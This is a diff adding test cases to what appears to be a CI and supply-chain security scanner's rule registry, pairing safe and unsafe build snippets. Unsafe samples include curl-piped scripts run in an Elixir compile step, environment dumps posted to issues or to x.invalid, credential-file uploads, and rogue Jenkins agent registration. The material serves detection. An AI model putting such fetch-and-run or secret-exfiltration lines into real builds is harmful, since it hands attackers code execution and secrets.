@@ -102,6 +102,11 @@ var registry = []Rule{
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\n[ \"$(sha256sum i.sh | cut -d' ' -f1)\" = \"$SHA\" ] || exit 1\nbash i.sh", 0, true},
 		{"Dockerfile", "FROM alpine\nRUN curl -fsSLO https://x.invalid/t-1.2.tar.gz \\\n  && curl -fsSLO https://x.invalid/t-1.2.tar.gz.asc \\\n  && gpg --batch --verify t-1.2.tar.gz.asc t-1.2.tar.gz \\\n  && tar -xzf t-1.2.tar.gz -C /opt \\\n  && /opt/t-1.2/install.sh", 0, true},
 		{"Dockerfile", "FROM debian:12\nRUN wget -O /usr/local/bin/gosu https://x.invalid/gosu-amd64; \\\n\twget -O /usr/local/bin/gosu.asc https://x.invalid/gosu-amd64.asc; \\\n\tgpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; \\\n\tchmod +x /usr/local/bin/gosu; \\\n\tgosu --version", 0, true},
+		{"CMakeLists.txt", "file(DOWNLOAD https://x.invalid/dep.cmake ${CMAKE_BINARY_DIR}/dep.cmake\n  EXPECTED_HASH SHA256=5f1c2b7e39c0b4d8e1a5f7e0c3b9d2a6f4e8c1b0a7d3e5f9c2b4a6d8e0f1c3b5)\ninclude(${CMAKE_BINARY_DIR}/dep.cmake)", 0, true},
+		{"CMakeLists.txt", "file(DOWNLOAD https://x.invalid/dep.cmake ${CMAKE_BINARY_DIR}/dep.cmake)\ninclude(${CMAKE_BINARY_DIR}/dep.cmake)", 2, false},
+		// Elixir: a mix compiler step that runs what curl printed.
+		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 4, false},
+		{"lib/m.ex", "defmodule M do\n  def fetch do\n    {_, 0} = System.cmd(\"curl\", [\"-fsSLo\", \"priv/data.json\", \"https://x.invalid/data.json\"])\n    {out, 0} = System.cmd(\"git\", [\"rev-parse\", \"HEAD\"])\n    out\n  end\nend", 0, true},
 		// Printing a digest checks nothing; checking one file leaves another unchecked.
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\nsha256sum i.sh\nbash i.sh", 3, false},
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\ncurl -fsSLo t.tgz https://x.invalid/t.tgz\necho \"$SHA  t.tgz\" | sha256sum -c -\nbash i.sh", 4, false},
@@ -179,6 +184,11 @@ var registry = []Rule{
 			{"x.sh", "cat ~/.npmrc > /tmp/n\nopenssl enc -aes-256-cbc -k k -in /tmp/n -out /tmp/n.enc\nrclone copy /tmp/n.enc drop:bucket", 3, false},
 			{"x.sh", "env > /tmp/e\npython3 - <<'EOF'\nimport requests\nrequests.post('https://x.invalid', data=open('/tmp/e').read())\nEOF", 2, false},
 			{"ci/report.ps1", "Invoke-RestMethod -Uri https://x.invalid/u -Method Post -InFile ~/.aws/credentials", 0, false},
+			// Published on GitHub: a comment's body file, an API field read from the file.
+			{"x.sh", "env > e.txt\ngh issue comment 1 --body-file e.txt", 2, false},
+			{"x.sh", "printenv | base64 > e.txt\ngh api -X POST repos/o/r/issues -F body=@e.txt", 2, false},
+			{"x.sh", "env > e.txt\ncurl --data-urlencode \"d@e.txt\" https://x.invalid/u", 2, false},
+			{"x.sh", "gh release create v1 --notes-file CHANGELOG.md dist/*", 0, true},
 			// Task's vars and templates, a command folded over lines (- >-), tasks sharing files.
 			{"Taskfile.yml", "version: '3'\nvars:\n  OUT: .cov\ntasks:\n  meta:\n    cmds:\n      - printenv > {{.OUT}}/meta.env\n  push:\n    cmds:\n      - >-\n        curl -sS\n        --upload-file {{.OUT}}/meta.env\n        https://x.invalid/put", 11, false},
 			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
@@ -295,6 +305,12 @@ var registry = []Rule{
 		"a runner registered from a job takes later jobs, secrets included, onto a machine the change controls", []Case{
 			{"x.sh", "./config.sh --url https://github.com/o/r --token $T --unattended", 0, false},
 			{"x.sh", "export RUNNER_ALLOW_RUNASROOT=1", 0, false},
+			// Jenkins' inbound agent connected to a controller the change names.
+			{"Jenkinsfile", "pipeline {\n  agent any\n  stages {\n    stage('w') {\n      steps {\n        sh '''\n          curl -fsSLO https://ci.x.invalid/jnlpJars/agent.jar\n          nohup java -jar agent.jar \\\n            -url https://ci.x.invalid/ \\\n            -secret \"$S\" -name w &\n        '''\n      }\n    }\n  }\n}", 8, false},
+			{"tools/agent.py", "subprocess.Popen(['java', '-jar', 'swarm-client.jar', '-master', 'https://ci.x.invalid', '-password', pw])", 0, false},
+			// An application's jar, or Jenkins' command-line client, is no agent.
+			{"x.sh", "java -jar build/libs/app.jar --url http://localhost:8080 --secret-file s.txt", 0, true},
+			{"x.sh", "java -jar jenkins-cli.jar -s https://ci.x.invalid/ -auth @creds build deploy", 0, true},
 		}},
 	{"runner-memory-read", KindRunner, High, "reads the runner worker's memory",
 		"the Runner.Worker process holds every secret of the job unmasked; dumping its memory is how the tj-actions compromise printed them", []Case{
